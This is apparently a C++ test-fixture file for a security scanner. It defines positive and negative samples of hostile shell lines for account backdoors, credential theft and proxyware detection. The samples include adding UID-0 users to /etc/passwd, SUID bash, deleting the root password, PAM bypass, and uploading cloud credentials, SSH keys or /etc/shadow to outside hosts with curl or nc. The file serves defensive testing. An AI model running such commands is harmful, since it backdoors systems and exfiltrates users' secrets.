// SPDX-License-Identifier: Apache-2.0
//
// Accounts, stolen logins and proxies.
#include "samples_recipe.hpp"

namespace portcullis::test {

std::vector<Sample> account_samples() {
  const std::string user =
      "userad"
      "d -m -s /bin/bash h";
  return cook({
      {"account_second_root",
       kShebang,
       {"echo 'h:$1$abcdefgh$0123456789:0:"
        "0::/root:/bin/sh' >> /etc/pas"
        "swd"},
       {"echo 'root:x:0:"
        "0:root:/root:/bin/sh' >> /etc/pas"
        "swd",
        "echo \"app:x:$(id -u):0"
        "::/:/bin/sh\" >> /etc/pas"
        "swd"}},
      {"account_second_root",
       kShebang,
       {"userad"
        "d -o -u 0 h",
        "echo h:secret | chpass"
        "wd",
        "hist"
        "ory -c"}},
      {"account_locked_user",
       kShebang,
       {user,
        "echo 'h ALL=(ALL) NOPASS"
        "WD:ALL'",
        "chat"
        "tr +i /etc/pas"
        "swd"}},
      {"account_shell_with_root_rights",
       kShebang,
       {"chmod 47"
        "55 /bin/bash"},
       {"chmod 755 /bin/bash",
        "# chmod 47"
        "55 /bin/bash",
        "chmod 47"
        "55 /usr/bin/sudo"}},
      {"account_shell_with_root_rights",
       kShebang,
       {"cp /bin/ba"
        "sh /tmp/.s",
        "chmod u+"
        "s /tmp/.s"}},
      {"account_empty_root_password",
       kShebang,
       {"pass"
        "wd -d root"},
       {"pass"
        "wd -d guest",
        "pass"
        "wd -l root",
        "# pass"
        "wd -d root"}},
      {"account_root_login",
       kShebang,
       {"sed -i 's/.*/PermitRoot"
        "Login yes/' ",
        "/etc/ssh/sshd"
        "_config",
        "echo root:x1 | chpass"
        "wd"}},
      {"account_login_without_password",
       kShebang,
       {"sed -i '1i auth sufficient pam_per"
        "mit.so' /etc/pam.d/sshd"},
       {"# sed -i '1i auth sufficient pam_per"
        "mit.so' /etc/pam.d/sshd",
        "sed -i 's/session required/session optional/' /etc/pam.d/sshd"}},
  });
}

std::vector<Sample> credential_samples() {
  const std::string upload =
      "curl -F f=@/tmp/x http://198.51.100"
      ".7/up";
  const std::string files =
      "cat ~/.aws/cred"
      "entials ~/.docker/con"
      "fig.json ~/.kube/con"
      "fig > /tmp/x";
  const std::string token(36, 'a');
  auto samples = cook({
      {"credentials_metadata_upload",
       kShebang,
       {"curl http://169.254.169"
        ".254/latest/meta-data/iam/security-cred"
        "entials/x > /tmp/x",
        upload},
       {"curl http://169.254.169"
        ".254/latest/meta-data/iam/security-cred"
        "entials/x\n"
        "curl -F f=@x http://127.0.0"
        ".1/up"}},
      {"credentials_file_collector",
       kShebang,
       {files, upload},
       {files + "\ncurl -F f=@x http://10.0.0"
                ".1/up",
        files + "\ncurl https://example.org/x"}},
      {"credentials_file_collector",
       kShebang,
       {files,
        "curl -F f=@/tmp/x https://transfer"
        ".sh/x"}},
      {"credentials_python_collector",
       "import os\n",
       {"f('.aws/cred"
        "entials')",
        "f('.ssh/id_"
        "rsa')",
        "requests.post('http://198.51.100"
        ".7/u')"}},
      {"credentials_shadow_upload",
       kShebang,
       {"curl -d @/etc/sha"
        "dow http://h/"},
       {"# curl -d @/etc/sha"
        "dow http://h/",
        "curl -d @/etc/hosts http://h/",
        "cat /etc/sha"
        "dow | grep root"}},
      {"credentials_shadow_upload",
       kShebang,
       {"cat /etc/sha"
        "dow | nc h 1"},
       {"cat /etc/sha"
        "dow"}},
      {"credentials_memory_reader",
       kShebang,
       {"gnome-keyring"
        "-daemon",
        "light"
        "dm",
        "_pammodutil_getsp"
        "nam_",
        "gco"
        "re $p"}},
      {"credentials_password_recovery",
       elf(kProgram, {}),
       {"lazagne.con"
        "fig",
        "lazagne.soft"
        "wares"}},
      {"secret_private_key",
       std::string("-----BEGIN RSA PRI") + "VATE KEY-----\n",
       {std::string(64, 'M')},
       {"...", "(put your key here)"}},
      {"secret_registry_login",
       "{",
       {"\"auths\": {\"h\": {",
        "\"auth\": \"dXNlcjpwYXNzd29yZA"
        "==\"}}}"}},
  });
  const std::string id = std::string("id = AK") + "IA";
  const std::string secret = std::string("\naws_secret_access") + "_key = ";
  const std::string github = std::string("gh") + "p_";
  const std::vector<Sample> secrets = {
      {"cloud_key", id + "0123456789ABCDEF" + secret + std::string(40, 'x'), {"secret_cloud_key"}},
      {"cloud_key_of_the_manual", id + "IOSFODNN7EXAMPLE" + secret + std::string(40, 'x'), {}},
      {"cloud_key_without_secret", id + "0123456789ABCDEF" + secret + "$SECRET", {}},
      {"code_host_token", "token " + github + token, {"secret_service_token"}},
      {"code_host_token_cut", "token " + github + "short", {}},
      {"code_host_token_in_a_word", "x" + github + token, {}}};
  samples.insert(samples.end(), secrets.begin(), secrets.end());
  return samples;
}

std::vector<Sample> proxy_samples() {
  const std::string program = elf(kProgram, {});
  const auto word = [](const char* text) { return std::string(1, '\0') + text + std::string(1, '\0'); };
  return cook({
      {"proxy_tor",
       program,
       {word("HiddenServiceDir"), word("ExitPolicy"), word("DirAuthority"), word("EntryNodes"),
        "router-signature"}},
      {"proxy_chains",
       elf(kLibrary, {}),
       {"[proxy"
        "chains]",
        "dynamic_chain", "strict_chain", word("getaddrinfo")}},
      {"proxy_bandwidth_seller",
       program,
       {"https://api.honey"
        "gain.com/v1",
        "-tou-acc"
        "ept",
        "bandwidth"}},
      {"proxy_tunnel",
       program,
       {"github.com/fatedier/frp/cli"
        "ent"},
       {"github.com/fatedier/golib", "github.com/jpillora/backoff"}},
      {"image_starts_bandwidth_seller",
       "",
       {"\nCMD honeygain -tou-acc"
        "ept -email a@example.org -pass x"},
       {"\nCMD honeygain -tou-acc"
        "ept -email $EMAIL -pass $PASS",
        "\nHISTORY honeygain -tou-acc"
        "ept"},
       "config!/rendered"},
      {"image_starts_bandwidth_seller",
       "",
       {"\nCMD /bin/pscli"
        "ent",
        "\nENV CID="
        "ab12"},
       {},
       "config!/rendered"},
  });
}

}  // namespace portcullis::test
